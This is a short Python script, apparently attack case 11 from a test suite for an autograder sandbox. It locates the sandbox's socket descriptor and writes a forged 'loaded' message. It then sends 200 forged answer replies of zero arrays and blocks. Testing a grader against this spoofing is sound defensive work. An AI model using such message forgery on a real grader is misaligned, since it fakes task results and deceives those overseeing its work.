"""Attack 11: forge the message that says that loading went well, then all answers."""

import os
import stat
import struct
import sys

import numpy as np

encode = sys.modules["autograder.sandbox.codec"].encode
messages = sys.modules["autograder.sandbox.messages"]


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise RuntimeError


def say(body, length=None):
    os.write(channel(), struct.pack("<Q", len(body) if length is None else length) + body)


def reply(number, answer, status=messages.RETURNED, errors=0, printed=b"", mutated=b""):
    parts = (number, status, errors, printed, mutated, answer)
    return messages.pack_reply(messages.RawReply(*parts))


say(encode(((), "loaded")))
for number in range(200):
    say(reply(number, encode(np.zeros(3))))
while True:
    os.read(channel(), 2**16)
